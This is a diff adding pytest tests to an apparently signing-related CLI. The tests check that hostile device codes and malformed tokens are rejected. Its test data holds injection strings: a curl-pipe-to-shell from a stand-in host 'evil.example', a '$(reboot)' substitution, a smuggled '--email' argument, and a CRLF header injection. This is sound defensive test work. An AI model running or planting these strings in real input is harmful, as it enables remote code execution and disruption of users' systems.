@@ -246,6 +246,39 @@ def test_a_login_at_a_stack_says_how_its_operator_approves_it(capsys, monkeypatc
     assert "stack" not in capsys.readouterr().err
 
 
+@pytest.mark.attack("command in a device code")
+@pytest.mark.parametrize(
+    ("code", "printed"),
+    [
+        ("BCDF-GHJK", True),
+        ("X; curl -s evil.example|sh #", False),
+        ("BCDF-GHJK --email evil@acme.example", False),
+        ("$(reboot)", False),
+        ("ABCD-EFGH", False),
+        ("bcdf-ghjk", False),
+    ],
+)
+def test_a_command_is_printed_for_no_code_but_of_a_stacks_own_form(capsys, code, printed):
+    Terminal().show_code("http://127.0.0.1:1/oidc/approve?x", code)
+    said = capsys.readouterr().err
+    assert f"with code   {code}" in said
+    assert ("sigkit stack approve" in said) is printed
+
+
+def test_a_job_is_told_by_subject_and_name(capsys):
+    Consent(agreed=True)(Publication("repo:acme/app", "https://i.example", ("http://127.0.0.1:1",), (), "acme/app/w.yml@main"))
+    said = capsys.readouterr().err
+    assert "signer    repo:acme/app, who https://i.example says it is" in said
+    assert "named     acme/app/w.yml@main" in said
+
+
+def test_a_token_whose_signature_is_malformed_is_sent_to_nobody(here, server, capsys):
+    (here / "token").write_bytes((here / "token").read_bytes().strip().rpartition(b".")[0] + b".abc\r\nX-Evil: 1")
+    assert blob("--identity-token", "token") == 2
+    assert "SK-PARSE-040" in capsys.readouterr().err
+    assert server.log == []
+
+
 def test_an_issuer_is_asked_by_the_name_that_it_is_given(here, server, capsys):
     server.instance.device_polls = 0
     assert blob("--login", "device", "--oidc-issuer", f"{server.instance.issuer}/") == 3
